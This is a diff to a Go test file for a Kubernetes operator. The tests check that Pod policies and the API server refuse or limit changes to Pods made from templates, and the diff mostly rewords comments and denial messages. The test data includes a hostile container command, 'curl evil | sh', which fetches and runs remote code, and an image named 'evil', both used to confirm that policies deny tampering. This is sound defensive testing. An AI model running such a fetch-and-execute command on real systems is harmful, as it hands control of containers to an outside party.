@@ -29,10 +29,12 @@ import (
 
 // The field walk: every JSON field of the Go types a Pod is made of, at
 // each level where chaospod-templates compares key by key or with
-// defaults, has a podDecision below. A field a later Kubernetes adds fails
+// defaults, has a decision below: refused by a Pod policy, refused by the
+// API server itself, dropped or overwritten by it, or a listed difference
+// with the value it may take. A field a later Kubernetes adds fails
 // TestEveryPodFieldIsDecided until someone decides it, and
 // TestOperatorPodsDifferFromTheirTemplatesOnlyAsListed makes every
-// podDecision against the real API server, as the operator's ServiceAccount.
+// decision against the real API server, as the operator's ServiceAccount.
 
 // anyPodPolicy stands for either Pod policy: a change both refuse is
 // answered by whichever the API server evaluates first.
@@ -99,16 +101,16 @@ func (d podDecision) from(template func(t *corev1.PodTemplateSpec)) podDecision 
 	return d
 }
 
-// by is a refusal by a policy, for allowed.
+// refusedBy is a denial by a policy, for allowed.
 func refusedBy(policy, message string) podOutcome {
 	return podOutcome{policy: policy, message: message}
 }
 
 // fieldsTemplate is victimTemplate with a value in each struct the walk
 // changes: resources by limits alone, a readiness probe over HTTP, a
-// startup probe over gRPC, a preStop sleep, env from a resource field and a
-// Secret, a sidecar with a TCP probe, downward API and ephemeral volumes and
-// a toleration.
+// startup probe over gRPC, a preStop sleep, env from a resource field, a
+// Secret and a file, a sidecar with a TCP probe, downward API, ephemeral
+// and image volumes, and a toleration.
 func fieldsTemplate() corev1.PodTemplateSpec {
 	t := victimTemplate()
 	main := &t.Spec.Containers[0]
@@ -394,7 +396,7 @@ func containerDecisions(kind, name string, at func(p *corev1.Pod) *corev1.Contai
 		return allowed(func(p *corev1.Pod) { value(at(p)) }, func(p *corev1.Pod) { other(at(p)) }, refusedBy(templatePolicy, field(f)))
 	}
 	d := map[string]podDecision{
-		"name":       denied(templatePolicy, whose("spec."+kind+" is"), func(p *corev1.Pod) { at(p).Name = "renamed" }),
+		"name":       denied(templatePolicy, whose("spec."+kind+"[*].name is"), func(p *corev1.Pod) { at(p).Name = "renamed" }),
 		"image":      deny("image", func(c *corev1.Container) { c.Image = "registry.example/evil:1" }),
 		"command":    deny("command", func(c *corev1.Container) { c.Command = []string{"sh", "-c", "curl evil | sh"} }),
 		"args":       deny("args", func(c *corev1.Container) { c.Args = []string{"--evil"} }),
@@ -705,7 +707,7 @@ func volumeDecisions() map[string]podDecision {
 	}
 	secretRef := &corev1.LocalObjectReference{Name: "s"}
 	return map[string]podDecision{
-		"name": denied(templatePolicy, whose("spec.volumes is"), func(p *corev1.Pod) { volumeOf(p, "info").Name = "renamed" }),
+		"name": denied(templatePolicy, whose("spec.volumes[*].name is"), func(p *corev1.Pod) { volumeOf(p, "info").Name = "renamed" }),
 		// The API server makes a volume without a source an emptyDir.
 		"emptyDir": denied(templatePolicy, whose("spec.volumes[data].emptyDir.medium"), func(p *corev1.Pod) {
 			volumeOf(p, "data").EmptyDir.Medium = corev1.StorageMediumMemory
